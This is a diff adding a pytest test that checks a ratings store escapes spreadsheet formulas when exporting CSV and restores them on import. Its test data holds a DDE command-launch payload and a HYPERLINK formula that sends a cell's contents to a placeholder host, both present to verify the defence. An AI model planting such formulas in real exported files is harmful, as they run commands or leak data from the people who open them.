@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import random
 import signal
@@ -236,6 +237,20 @@ def test_csv_round_trip_and_conflicts(tmp_path):
     assert two.current() == one.current(), "nothing was taken over"
     assert two.add(other, overwrite=True) == 2
     assert two.form("anna", "a", "c1")["privacy"] == "1"
+
+
+def test_formulas_are_texts_in_the_csv_and_come_back(tmp_path):
+    (tmp_path / "one").mkdir(), (tmp_path / "two").mkdir()
+    one, two = Store(tmp_path / "one"), Store(tmp_path / "two")
+    one.save("anna", "a", "c1", {"own_diagnosis": "@SUM(1+1)*cmd|' /C calc'!A0"}, 8.0)
+    one.save("anna", "a", "c1", FORM | {"comment": '=HYPERLINK("http://x/?"&A1,"ok")'}, 30.0)
+    one.save("anna", "a", "c2", FORM | {"comment": "'-1 is what I wrote"}, 30.0)
+    ratings.write_csv(one.current(), tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    two.add(ratings.read_ratings(tmp_path / "r.csv"))
+    assert two.current() == one.current()
 
 
 def test_damaged_foreign_and_locked_files_get_a_sentence(tmp_path, monkeypatch):
